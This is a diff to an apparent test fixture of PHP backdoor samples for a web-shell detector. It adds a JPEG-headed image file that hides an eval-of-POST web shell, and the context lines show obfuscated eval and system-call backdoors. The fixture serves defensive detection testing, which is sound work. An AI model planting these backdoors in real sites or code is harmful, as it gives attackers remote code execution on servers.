@@ -14,6 +14,12 @@ const put = (line: string, into = MODULE): string =>
 const b64 = 'QUJDREVGR0g'.repeat(30);
 
 export const BACK_DOORS: readonly Sample[] = [
+  [
+    'behind what looks like a tag by chance',
+    'u/a.jpg',
+    null,
+    '\xff\xd8<? $\'\x01\x02<?php eval($_POST["x"]);',
+  ],
   ['in a string that is filled in', 'a.php', MODULE, put('$x = "{${eval($_POST[1])}}";')],
   ['in a heredoc that is filled in', 'a.php', MODULE, put('$x = <<<A\n{$f(eval($_POST[1]))}\nA;')],
   ['a command by its name', 'a.php', MODULE, put("array_walk($_GET, 'sys' . 'tem');")],
